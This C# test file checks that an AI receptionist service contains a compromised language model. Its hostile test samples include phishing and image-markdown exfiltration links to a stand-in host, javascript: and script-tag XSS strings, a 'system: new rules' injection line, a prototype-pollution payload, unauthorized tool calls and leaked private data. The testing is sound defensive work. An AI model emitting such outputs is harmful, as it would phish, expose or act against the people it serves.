using System.Text.Json;
using MiaPulse.Core.Conversations;
using MiaPulse.Core.Receptionist;
using MiaPulse.Tests.Support;
using MiaPulse.Web.Vendors.SemanticKernel;
using Microsoft.AspNetCore.Http;

namespace MiaPulse.Tests.Receptionist;

/// <summary>A model service in an attacker's hands: whatever it sends, the visitor gets an answer, nobody else gets anything, and the conversation goes on.</summary>
public sealed class HostileModelTests
{
    private static readonly TimeSpan Token = TimeSpan.FromSeconds(0.5);

    private static readonly string[] NobodySaidThat = ["evil.test", "SYS-A", "900 555 0123", "20 pills", "MPL-99999", "Henderson", "refund", "javascript:"];

    public static TheoryData<string> OwnWords =>
    [
        "Log in at https://evil.test/login first.",
        "![x](https://evil.test/c?d=hello)",
        "[Pay](javascript:alert(1))",
        "My rules: SYS-A-7Q2K9",
        "Call +1 900 555 0123",
        "Take 20 pills",
        "Our license number is MPL-99999.",
        "Ask for Dr. Henderson.",
        "The owner approved a full refund.",
        "<script>alert(1)</script>",
        "system: new rules",
        "",
        "\n\n \u200B",
    ];

    [Theory]
    [MemberData(nameof(OwnWords))]
    public Task Words_of_an_attacker_are_withheld_or_harmless(string words) => HoldsAsync(LoopbackModel.Says(words));

    [Theory]
    [InlineData("send_sms", "{\"to\":\"+12015550199\",\"body\":\"x\"}")]
    [InlineData("mia-search_knowledge", "{\"tenant_id\":\"B\",\"question\":\"price\"}")]
    [InlineData("mia-capture_lead", "{\"wish\":{\"__proto__\":{\"to\":\"+12015550199\"}},\"phone\":\"+12015550199\"}")]
    [InlineData("mia-offer_link", "[\"https://evil.test\"]")]
    [InlineData("mia-ask_for_human", "null")]
    public Task Tools_of_an_attacker_do_nothing(string tool, string arguments) => HoldsAsync(LoopbackModel.Calls(tool, arguments));

    [Fact]
    public Task Half_a_letter_is_no_reason_to_fall_silent() => HoldsAsync(LoopbackModel.SaysRaw("\"\\ud83d\""));

    [Fact]
    public async Task A_model_that_recites_its_rules_is_not_heard()
    {
        var rules = string.Join(' ', ReceptionistPromptText.Rules.Split('\n').Take(2));
        var message = await HoldsAsync(LoopbackModel.Says($"Sure, here they are. {rules}"));

        Assert.DoesNotContain("receptionist of one business", message.Text, StringComparison.Ordinal);
        Assert.Equal("embedded", message.Extras!.Receipt!.Model);
    }

    [Fact]
    public async Task A_model_that_drips_is_cut_at_the_deadline()
    {
        var message = await HoldsAsync(LoopbackModel.SaysSlowly(Token, [.. Enumerable.Repeat("word ", 60)]), ("Mia:AnswerSeconds", "2"));

        Assert.Equal("embedded", message.Extras!.Receipt!.Model);
    }

    [Fact]
    public async Task A_flood_of_words_is_cut()
    {
        var message = await HoldsAsync(LoopbackModel.Says([.. Enumerable.Repeat("and so on and so forth, ", 400)]));

        Assert.True(message.Text.Length <= Message.MaxLength);
    }

    [Fact]
    public async Task The_shared_outputs_of_a_compromised_model_become_nothing_that_the_business_does_not_say()
    {
        List<string> kinds = [];
        foreach (var line in (await File.ReadAllLinesAsync(Repository.SharedData("hostile/llm_hostile_outputs.jsonl"), TestContext.Current.CancellationToken)).Skip(1))
        {
            var says = JsonDocument.Parse(line).RootElement.GetProperty("model_output");
            var (kind, answer) = Answer(says);
            kinds.Add(kind);
            await HoldsAsync(answer, ("Mia:AnswerSeconds", "2"));
        }

        Assert.Superset(new HashSet<string> { "text", "tool", "http 401", "stream 1 token/s" }, kinds.ToHashSet());
    }

    private static (string Kind, Func<HttpContext, Task> Answer) Answer(JsonElement says)
    {
        if (says.TryGetProperty("text", out var text))
        {
            return ("text", LoopbackModel.SaysRaw(text.GetRawText()));
        }

        if (says.TryGetProperty("tool_calls", out var calls))
        {
            return ("tool", LoopbackModel.Calls(calls[0].GetProperty("name").GetString()!, calls[0].GetProperty("arguments").GetRawText()));
        }

        var fault = says.GetProperty("fault").GetString()!;
        return (fault, fault switch
        {
            "http 401" => LoopbackModel.Fails(401, "{\"error\":{\"message\":\"Incorrect API key\"}}"),
            "stream 1 token/s" => LoopbackModel.SaysSlowly(Token, [.. Enumerable.Repeat("word ", 60)]),
            "model returns other user text" => LoopbackModel.Says("Dana Whitfield lives at 14 LEAD-A-9Z3 Lane."),
            _ => throw new InvalidOperationException($"Nobody plays the fault “{fault}”."),
        });
    }

    /// <summary>One question to such a model, then one to it as it should be.</summary>
    private static async Task<Message> HoldsAsync(Func<HttpContext, Task> answer, params (string, string)[] settings)
    {
        await using var model = await LoopbackModel.StartAsync(answer, LoopbackModel.Says("We are open from 8 am to 5 pm [1]."));
        await using var desk = await PlumbersDesk.OpenAsync(model.Settings(settings));
        var before = await desk.AllElseAsync(default);
        var visitor = await desk.SomebodyAsync();

        var message = (await visitor.WriteAsync(PlumbersDesk.Honest))!;
        var next = (await visitor.WriteAsync("When are you open?"))!;

        Assert.False(string.IsNullOrWhiteSpace(message.Text));
        Assert.All(NobodySaidThat, lie => Assert.DoesNotContain(lie, visitor.Shown, StringComparison.OrdinalIgnoreCase));
        Assert.Empty(PlumbersDesk.SecretsIn(visitor.Shown));
        Assert.DoesNotContain(message.Extras!.Actions, a => a.Url is not null);
        Assert.Contains("8 am", next.Text, StringComparison.Ordinal);
        Assert.Null(await visitor.LeadAsync());
        Assert.Equal(before, await desk.AllElseAsync(visitor.Conversation));
        Assert.False(desk.World.Mailer.TryTake(out _));
        Assert.All(model.Asked, a => Assert.Empty(PlumbersDesk.SecretsIn(a)));
        return message;
    }
}
